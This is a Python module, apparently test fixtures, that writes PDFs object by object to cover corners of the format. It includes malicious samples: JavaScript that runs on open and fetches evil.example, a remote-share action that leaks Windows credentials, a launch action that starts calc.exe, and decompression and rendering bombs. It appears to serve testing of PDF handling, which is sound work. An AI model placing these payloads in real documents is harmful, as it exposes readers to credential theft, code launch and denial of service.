"""PDFs written by hand, object by object, so that each corner of the format can be put in where it belongs."""

import zlib

CATALOG, PAGES, FONT = 1, 2, 3
LETTERS = "/Resources << /Font << /F1 3 0 R >> >>"


def paper(*texts, catalog="", page="", extra=(), content=None, size=(595, 842), header=b""):
    """A PDF with one page for each text. `catalog` and `page` are more entries, `extra` more objects from number 100 on.

    `content` takes the place of what draws the text.
    """
    texts = texts or ("Receipt 12.50",)
    objects = {FONT: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"}
    kids = []
    for number, text in enumerate(texts):
        own, stream = 10 + 2 * number, 11 + 2 * number
        kids.append(f"{own} 0 R")
        objects[own] = (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {size[0]} {size[1]}] {LETTERS} /Contents {stream} 0 R {page} >>".encode()
        )
        objects[stream] = stream_of(content if content is not None else f"BT /F1 24 Tf 60 {size[1] - 80} Td ({text}) Tj ET".encode() if text else b"")
    objects[PAGES] = f"<< /Type /Pages /Count {len(kids)} /Kids [{' '.join(kids)}] >>".encode()
    objects[CATALOG] = f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode()
    objects |= {100 + number: body for number, body in enumerate(extra)}
    return header + _written(objects)


def stream_of(content, entries=""):
    """A compressed stream object."""
    packed = zlib.compress(content, 9)
    return f"<< /Length {len(packed)} /Filter /FlateDecode {entries} >>\nstream\n".encode() + packed + b"\nendstream"


def _written(objects):
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    return bytes(out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (max(objects) + 1, start))


def with_open_script():
    """A script that runs on opening."""
    return paper(catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")


def with_page_script():
    """A script that runs when the page is opened."""
    return paper(page="/AA << /O << /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\)) >> >>")


def with_field_script():
    """A form whose field runs a script, and holds what somebody filled in."""
    field = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (total) /V (FILLED IN) /DA (/F1 60 Tf 0 g) /Rect [60 300 540 400] /F 4 "
        b"/AP << /N 101 0 R >> /AA << /K << /S /JavaScript /JS (app.alert\\(2\\)) >> >> >>"
    )
    shown = stream_of(b"0 0 480 100 re f", "/Type /XObject /Subtype /Form /BBox [0 0 480 100]")
    return paper("", catalog="/AcroForm << /Fields [100 0 R] /DR << /Font << /F1 3 0 R >> >> >>", page="/Annots [100 0 R]", extra=(field, shown))


def with_network_path():
    """Opening it would ask a stranger's server for a file, with the reader's Windows password."""
    return paper(catalog="/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>")


def with_launch():
    """A link that starts a program."""
    return paper(page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (calc.exe) >> >>]")


def e_invoice():
    """An invoice with its figures attached as XML, as ZUGFeRD and Factur-X do."""
    return paper(
        "Invoice 12.50",
        catalog="/AF [100 0 R] /Names << /EmbeddedFiles << /Names [(factur-x.xml) 100 0 R] >> >>",
        extra=(
            b"<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /AFRelationship /Data /EF << /F 101 0 R >> >>",
            stream_of(b"<invoice>ATTACHED FIGURES</invoice>", "/Type /EmbeddedFile"),
        ),
    )


def with_opening_view():
    """Opens at the top of page one, as reportlab, fpdf and others write it."""
    return paper(catalog="/OpenAction [10 0 R /FitH null] /PageLayout /OneColumn")


def locked():
    """Wants a password. The key and the digests are of no password at all, so none opens it."""
    encrypt = b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <" + b"41" * 32 + b"> /U <" + b"42" * 32 + b"> >>"
    return paper(extra=(encrypt,)).replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 100 0 R /ID [<00> <00>]")


def slow():
    """Small to send, and minutes to draw: every line crosses the page under a pattern of transparency."""
    line = b"0 0 m 595 842 l 595 0 l 0 842 l 300 900 l 20 30 l f*\n"
    return paper(content=line * 2_000_000)


def swollen():
    """A stream that unpacks to gigabytes: 300 MB three times over, in filters round filters."""
    once = zlib.compress(b"\0" * 1_500_000_000, 9)
    packed = zlib.compress(once, 9)
    body = f"<< /Length {len(packed)} /Filter [/FlateDecode /FlateDecode] >>\nstream\n".encode() + packed + b"\nendstream"
    return paper().replace(b"11 0 obj\n", b"11 0 obj\n" + body + b"\nendobj\n12 0 obj\n")
